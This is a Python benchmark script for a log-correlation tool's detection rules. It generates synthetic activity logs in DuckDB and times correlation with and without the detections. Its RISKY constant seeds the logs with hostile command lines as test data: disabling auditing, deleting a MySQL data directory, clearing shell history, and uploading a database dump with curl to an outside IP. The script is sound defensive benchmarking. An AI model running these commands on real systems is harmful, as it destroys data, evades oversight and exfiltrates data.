"""Benchmark: what the detections add to correlate (issue 10: at most +50%, peak RSS < 3 GiB).

N actions in the generic format (bench_core's generator; one action in 1000 is a risky command,
every action is a command line, so every process_creation rule runs on every row), ingested
once; then `correlate` without detections and with all shipped rules, each in its own process.
Usage: python bench/bench_detect.py [--unique] [N ...]   (default 1000000)
--unique makes every command line distinct (a number appended), the worst case for the
distinct-values evaluation.
"""

from __future__ import annotations

import sys
from pathlib import Path

import duckdb

sys.path.insert(0, str(Path(__file__).resolve().parent))
import bench_core  # noqa: E402

RISKY = ("CASE i % 1000 WHEN 0 THEN 'auditctl -D' WHEN 1 THEN 'rm -rf /var/lib/mysql' "
         "WHEN 2 THEN 'history -c' WHEN 3 THEN 'curl -T /tmp/db.sql https://203.0.113.7/u' "
         "ELSE 'systemctl restart nginx --now' END AS detail")

CORRELATE = """
import resource, sys, time, json
from correlate.detect.run import DetectionSettings
from correlate.engine import correlate
from correlate.store import Store
on = sys.argv[2] == "on"
with Store(sys.argv[1]) as s:
    from correlate.detect.run import cached_rules
    cached_rules(())                      # rule loading is timed apart
    t = time.perf_counter()
    run = correlate(s, detections=DetectionSettings(enabled=on))
    seconds = time.perf_counter() - t
    rss = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    n = s.scalar("SELECT count(*) FROM detections WHERE run_id = ?", [run])
print(json.dumps({"seconds": seconds, "rss_mib": rss, "detections": n}))
"""

LOAD_RULES = """
import json, time
t = time.perf_counter()
from correlate.detect.rules import load_rules
n = len(load_rules())
print(json.dumps({"seconds": time.perf_counter() - t, "rules": n}))
"""


def generate(n: int, unique: bool = False) -> Path:
    folder = bench_core.DATA / f"detect-n{n}{'-unique' if unique else ''}"
    if (folder / "activity.jsonl").exists():
        return folder
    folder.mkdir(parents=True, exist_ok=True)
    risky = RISKY.replace(" END AS detail", " END || ' #' || i AS detail") if unique else RISKY
    gen = bench_core.GEN_ACTIVITY.replace("'systemctl restart nginx --now' AS detail", risky)
    assert gen != bench_core.GEN_ACTIVITY
    con = duckdb.connect()
    m = max(n // 100, 1)
    con.execute(gen.format(path=folder / "activity.jsonl"), {"n": n, "m": m, "accounts": 500})
    con.execute(bench_core.GEN_APPROVALS.format(path=folder / "approvals.csv"),
                {"m": m, "accounts": 500})
    con.execute(bench_core.GEN_TICKETS.format(path=folder / "tickets.csv"))
    return folder


def main(sizes: list[int], unique: bool = False) -> None:
    rules = bench_core.child(LOAD_RULES)
    print(f"loading {rules['rules']} rules: {rules['seconds']:.2f} s")
    print(f"{'N':>10} {'corr off s':>11} {'MiB':>6} {'corr on s':>10} {'MiB':>6} {'added':>7} "
          f"{'detections':>11}")
    for n in sizes:
        folder = generate(n, unique)
        db = folder / "bench.duckdb"
        for suffix in ("", ".wal"):
            Path(str(db) + suffix).unlink(missing_ok=True)
        bench_core.child(bench_core.INGEST, str(db), str(folder))
        off = bench_core.child(CORRELATE, str(db), "off")
        on = bench_core.child(CORRELATE, str(db), "on")
        added = on["seconds"] / off["seconds"] - 1
        print(f"{n:>10} {off['seconds']:>11.2f} {off['rss_mib']:>6.0f} {on['seconds']:>10.2f} "
              f"{on['rss_mib']:>6.0f} {added:>7.0%} {on['detections']:>11}")
        for suffix in ("", ".wal"):
            Path(str(db) + suffix).unlink(missing_ok=True)


if __name__ == "__main__":
    args = sys.argv[1:]
    main([int(a) for a in args if a != "--unique"] or [1_000_000], "--unique" in args)
